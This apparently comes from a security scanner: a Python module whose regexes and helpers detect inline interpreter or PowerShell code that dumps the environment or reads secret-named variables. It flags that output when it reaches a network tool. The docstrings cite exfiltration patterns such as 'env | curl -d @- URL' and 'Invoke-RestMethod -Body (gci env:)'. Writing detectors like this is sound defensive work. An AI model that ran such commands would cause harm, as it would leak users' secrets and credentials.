"""The environment read by inline interpreter code: what its output may carry.

``env | curl -d @- URL`` blocks: ``env`` prints secret data. Inline code that prints the
environment is the same dump in another language, so its output carries secret data too:

* the whole environment (``print(os.environ)``, ``JSON.stringify(process.env)``, ``p
  ENV.to_h``, ``print %ENV``, ``print_r(getenv())``, PowerShell ``gci env:`` or
  ``[Environment]::GetEnvironmentVariables()``): :func:`._langapi.env_spots` and
  :func:`pwsh_env_dump`;
* one variable whose name holds a secret (``os.environ["AWS_SECRET_ACCESS_KEY"]``,
  ``process.env.GITHUB_TOKEN``, ``ENV.fetch("API_KEY")``, ``$ENV{DB_PASSWORD}``,
  ``getenv("TOKEN")``, ``$env:GITHUB_TOKEN``, ``gci env:GITHUB_TOKEN``), like ``printenv
  GITHUB_TOKEN``.

A lookup of an everyday variable (``os.environ.get("HOME")``, ``process.env.NODE_ENV``,
``os.environ["PATH"]``) gives no taint. Printing alone passes, as ``env`` does: the taint
blocks only where it reaches a network tool (``| curl -d @-``, ``> f; curl -d @f``).
"""

from __future__ import annotations

import re

from ._values import secret_name

__all__ = ["env_printed", "lookup_ends", "pwsh_env_dump", "pwsh_env_sent", "secret_lookups"]

_GATE = ("env", "ENV", "Env")
# One variable looked up by a literal name, in each language's spelling; the name follows
# the lookup after at most a bracket, a dot or a colon and a quote (bounded: linear).
_ONE_VAR = re.compile(
    r"(?<![\w])(?:environ(?:\.get)?|[gG]etenv|process\.env|ENV(?:\.fetch)?|\$_ENV|"
    r"\$_SERVER|env\.get|Env\.get|\$?\{?[eE]nv:|env::var|GetEnvironmentVariable|"
    r"Deno\.env\.get)[ \t]{0,4}(?:\?\.|[\[({.])?[ \t]{0,4}\\?[\"']?"
    r"([A-Za-z_][A-Za-z0-9_]{0,80})")
# PowerShell: the env: drive listed, or the .NET call listing every variable.
_PWSH_DUMP = re.compile(r"(?<![\w-])(?:gci|get-childitem|dir|ls|get-item|gi|gc|get-content)"
                        r"[ \t]{1,8}(?:-(?:literal)?path[ \t]{1,8})?[\"']?env:[\\/]?\*?"
                        r"[\"']?(?![\w])|getenvironmentvariables[ \t]*\([ \t]*\)")
_PWSH_SENDS = ("invoke-restmethod", "invoke-webrequest", "irm ", "iwr ", "uploadstring",
               "uploaddata", "uploadvalues", "httpclient", "postasync", "send-mailmessage")


def pwsh_env_dump(code: str) -> bool:
    """PowerShell code lists the whole environment (``gci env:``, ``Get-ChildItem env:``)."""
    if "env:" not in code.lower() and "nvironmentvariables" not in code.lower():
        return False
    return _PWSH_DUMP.search(code.lower()) is not None


def pwsh_env_sent(code: str) -> bool:
    """PowerShell code sends the environment (``Invoke-RestMethod -Body (gci env:)``): a
    sender and a dump in one short command (the one-liners this reads)."""
    if len(code) > 20000:
        return False
    lowered = code.lower()
    return any(s in lowered for s in _PWSH_SENDS) and pwsh_env_dump(code)


def _secret_var(code: str) -> bool:
    for count, m in enumerate(_ONE_VAR.finditer(code)):
        if count > 64:
            break
        if secret_name(m.group(1)):
            return True
    return False


def secret_lookups(code: str) -> list[tuple[int, str]]:
    """(start of the expression, variable name) of each look-up of a secret-named variable
    (``os.environ["GITHUB_TOKEN"]`` starts at ``os``); at most 8, from the first 64."""
    out: list[tuple[int, str]] = []
    for count, m in enumerate(_ONE_VAR.finditer(code)):
        if count > 64 or len(out) >= 8:
            break
        name = m.group(1)
        if secret_name(name):
            j = m.start()
            floor = max(0, j - 40)
            while j > floor and (code[j - 1].isalnum() or code[j - 1] in "_.$"):
                j -= 1
            out.append((j, name))
    return out


def lookup_ends(code: str) -> dict[int, tuple[int, str]]:
    """{start: (end, name)} of each secret-named look-up that is a whole expression ending
    right after its name (``os.environ["T"]``, ``os.getenv("T")``, ``process.env.T``), not
    one with a default (``os.environ.get("T", "")``); at most 8."""
    out: dict[int, tuple[int, str]] = {}
    for count, m in enumerate(_ONE_VAR.finditer(code)):
        if count > 64 or len(out) >= 8:
            break
        if not secret_name(m.group(1)):
            continue
        j = m.end()
        if code[j:j + 1] == "\\":
            j += 1
        if code[j:j + 1] in ("'", '"'):
            j += 1
            if code[j:j + 1] not in ("]", ")", "}"):
                continue  # environ.get("T", default)
            j += 1
        elif code[j:j + 1] in ("]", ")", "}"):
            j += 1  # $ENV{T}
        start = m.start()
        floor = max(0, start - 40)
        while start > floor and (code[start - 1].isalnum() or code[start - 1] in "_.$"):
            start -= 1
        out[start] = (j, m.group(1))
    return out


def env_printed(code: str) -> bool:
    """``code`` reads the whole environment or a secret-named variable (what it prints may
    be secret data)."""
    if len(code) > 20000 or not any(g in code for g in _GATE):
        return False
    from ._langapi import env_spots  # late: _langapi imports this module

    return bool(env_spots(code)) or pwsh_env_dump(code) or _secret_var(code)
